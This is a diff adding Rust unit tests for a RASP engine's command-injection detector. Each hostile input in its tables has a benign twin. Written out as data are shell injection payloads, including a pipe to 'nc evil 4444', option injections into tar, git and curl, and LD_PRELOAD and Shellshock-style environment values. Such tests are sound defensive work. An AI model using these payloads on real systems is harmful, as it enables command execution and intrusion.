@@ -1,0 +1,158 @@
+//! Table-driven command injection tests: the argv the JVM passes (with `{}` where the input is
+//! concatenated), the input, and the expected verdict. Every attack has a benign twin.
+
+use rasp_engine::cmd::{detect, CmdRule, CommandLine};
+use rasp_engine::input::{Input, InputSource};
+use rasp_engine::{ContextLimits, RequestContext};
+
+use CmdRule::{Env, Program, Shell, Unparsable};
+const OPTION: CmdRule = CmdRule::Option;
+
+fn ctx(input: &str) -> RequestContext {
+    RequestContext::from_inputs(
+        vec![
+            Input::value(InputSource::Query, "q", input),
+            Input::value(InputSource::Header, "Accept", "text/html,*/*;q=0.8"),
+        ],
+        ContextLimits::default(),
+    )
+}
+
+fn argv(template: &[&str], input: &str) -> Vec<String> {
+    template.iter().map(|a| a.replace("{}", input)).collect()
+}
+
+/// `Runtime.exec(String)`: the JVM splits on whitespace, no shell.
+fn exec_string(template: &str, input: &str) -> Vec<String> {
+    template
+        .replace("{}", input)
+        .split_whitespace()
+        .map(str::to_owned)
+        .collect()
+}
+
+#[test]
+fn shell_scripts() {
+    let sh = ["sh", "-c", "ping -c 1 {}"];
+    let bash_q = ["/bin/bash", "-lc", "grep -- '{}' /var/log/app.log"];
+    let bash_dq = ["bash", "-c", "echo \"{}\""];
+    let cmd = ["cmd.exe", "/c", "dir {}"];
+    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
+        (&sh, "127.0.0.1; touch /tmp/pwned", Some(Shell)),
+        (&sh, "127.0.0.1", None),
+        (&sh, "127.0.0.1 && id", Some(Shell)),
+        (&sh, "example.com", None),
+        (&sh, "127.0.0.1 | nc evil 4444", Some(Shell)),
+        (&sh, "$(id)", Some(Shell)),
+        (&sh, "`id`", Some(Shell)),
+        (&sh, "127.0.0.1\nid", Some(Shell)),
+        (&sh, "127.0.0.1 > /tmp/out", Some(Shell)),
+        (&sh, "x${IFS}-c${IFS}3", Some(Shell)),
+        (&sh, "127.0.0.1 # comment", Some(Shell)),
+        (&sh, "127.0.0.1 127.0.0.2", None),
+        (&sh, "'", Some(Unparsable)),
+        (&bash_q, "error'; id; echo '", Some(Shell)),
+        (&bash_q, "error; not a command | still text", None),
+        (&bash_q, "it's", Some(Unparsable)),
+        (&bash_dq, "hello $(id)", Some(Shell)),
+        (&bash_dq, "hello; world | 'quoted'", None),
+        (&bash_dq, "price is $5", Some(Shell)),
+        (&bash_dq, "price is 5 dollars", None),
+        (&cmd, "C:\\ & calc", Some(Shell)),
+        (&cmd, "C:\\Users", None),
+    ];
+    for (template, input, want) in cases {
+        let cmd = CommandLine {
+            argv: argv(template, input),
+            env: vec![],
+        };
+        let got = detect(&ctx(input), &cmd).map(|f| f.rule);
+        assert_eq!(got, *want, "input {input:?} in {:?}", cmd.argv);
+    }
+}
+
+#[test]
+fn runtime_exec_string_is_not_a_shell() {
+    let cases: &[(&str, &str, Option<CmdRule>)] = &[
+        ("ping -c 1 {}", "127.0.0.1; touch /tmp/pwned", None),
+        ("ping -c 1 {}", "127.0.0.1", None),
+        ("{}", "touch /tmp/pwned", Some(Program)),
+        ("{}", "ls", Some(Program)),
+        ("/usr/bin/{} -l", "ls", None),
+        ("{} -la /tmp", "/bin/ls", Some(Program)),
+        ("ls -la {}", "/tmp/uploads", None),
+    ];
+    for (template, input, want) in cases {
+        let cmd = CommandLine {
+            argv: exec_string(template, input),
+            env: vec![],
+        };
+        let got = detect(&ctx(input), &cmd).map(|f| f.rule);
+        assert_eq!(got, *want, "input {input:?} in {:?}", cmd.argv);
+    }
+}
+
+#[test]
+fn option_injection_into_dangerous_programs() {
+    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
+        (
+            &["tar", "cf", "/tmp/a.tar", "{}"],
+            "--checkpoint-action=exec=id",
+            Some(OPTION),
+        ),
+        (&["tar", "cf", "/tmp/a.tar", "{}"], "reports/2024", None),
+        (&["find", "/data", "-name", "{}"], "x -exec id ;", None),
+        (&["find", "/data", "{}"], "-exec", Some(OPTION)),
+        (
+            &["git", "ls-remote", "{}"],
+            "--upload-pack=touch /tmp/x",
+            Some(OPTION),
+        ),
+        (
+            &["git", "ls-remote", "{}"],
+            "https://example.com/repo.git",
+            None,
+        ),
+        (&["curl", "{}"], "-o/tmp/x.jsp", Some(OPTION)),
+        (&["curl", "{}"], "https://example.com/a-b", None),
+        (&["ping", "-c", "1", "{}"], "-f", None),
+        (
+            &["sh", "-c", "tar cf /tmp/a.tar {}"],
+            "--to-command=id",
+            Some(OPTION),
+        ),
+        (&["sh", "-c", "tar cf /tmp/a.tar {}"], "docs-v2", None),
+    ];
+    for (template, input, want) in cases {
+        let cmd = CommandLine {
+            argv: argv(template, input),
+            env: vec![],
+        };
+        let got = detect(&ctx(input), &cmd).map(|f| f.rule);
+        assert_eq!(got, *want, "input {input:?} in {:?}", cmd.argv);
+    }
+}
+
+#[test]
+fn environment_of_the_child() {
+    let cases: &[(&str, &str, Option<CmdRule>)] = &[
+        ("LD_PRELOAD", "/tmp/evil.so", Some(Env)),
+        ("GREETING", "/tmp/evil.so", None),
+        ("BASH_ENV", "/tmp/x.sh", Some(Env)),
+        ("USER_NAME", "() { :; }; touch /tmp/pwned", Some(Env)),
+        ("USER_NAME", "alice (admin) {x}", None),
+        ("PATH", "evil", Some(Env)),
+        ("LANG", "evil", None),
+    ];
+    for (name, value, want) in cases {
+        let cmd = CommandLine {
+            argv: vec!["/usr/bin/env".into()],
+            env: vec![
+                ("HOME".into(), "/root".into()),
+                (name.to_string(), value.to_string()),
+            ],
+        };
+        let got = detect(&ctx(value), &cmd).map(|f| f.rule);
+        assert_eq!(got, *want, "{name}={value:?}");
+    }
+}
